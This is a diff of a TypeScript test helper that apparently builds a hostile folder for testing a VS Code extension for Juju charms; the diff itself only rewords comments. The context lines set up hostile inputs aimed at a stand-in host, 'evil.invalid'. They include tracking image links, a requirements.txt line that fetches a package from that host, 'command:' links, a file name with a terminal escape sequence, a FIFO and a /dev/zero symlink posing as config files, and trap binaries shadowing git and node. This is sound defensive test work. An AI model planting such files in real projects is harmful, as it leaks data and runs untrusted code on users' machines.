@@ -1,9 +1,9 @@
-/** A folder that would do harm: in what its files say, in what they are, and in what git and VS Code are told in it. */
+/** A folder that would do harm: by what its files say, by what they are, and by what it tells git and VS Code. */
 import { execFileSync } from 'node:child_process';
 import { chmodSync, mkdirSync, rmSync, symlinkSync, truncateSync, writeFileSync } from 'node:fs';
 import path from 'node:path';
 
-/** Nothing has this name; a request for it would be seen. */
+/** Nothing has this name; a request for it would be noticed. */
 export const HOST = 'evil.invalid';
 
 const TEXT = `[click](command:workbench.action.reloadWindow) ![p](https://${HOST}/p.png) <img src="https://${HOST}/i.png"> https://${HOST}/a www.${HOST} <a href="https://${HOST}">b</a>`;
@@ -57,7 +57,7 @@ export function makeHostile(work: string): void {
   const charm = path.join(work, 'charm');
   const at = (name: string) => path.join(charm, name);
   writeFileSync(at('charmcraft.yaml'), CHARM);
-  // What the files beside it are.
+  // By what the files beside it are.
   execFileSync('mkfifo', [at('paas-config.yaml')]);
   symlinkSync('/dev/zero', at('metadata.yaml'));
   mkdirSync(at('actions.yaml'));
@@ -68,7 +68,7 @@ export function makeHostile(work: string): void {
   writeFileSync(path.join(work, 'requirements.txt'), `flask @ https://${HOST}/flask.tar.gz\n`);
   writeFileSync(path.join(work, '.charm-config.yaml'), `rules:\n  '${TEXT}': off\n`);
   writeFileSync(path.join(work, '\u001b[2J [x](command:x).py'), 'import os\nos.environ["FLASK_GREETNG"]\n');
-  // What programs are told.
+  // By what it tells programs.
   const program = trap(work, 'trap');
   for (const name of ['juju', 'charmcraft', 'rockcraft', 'git', 'node']) trap(work, name);
   execFileSync('git', ['init', '-q', work]);
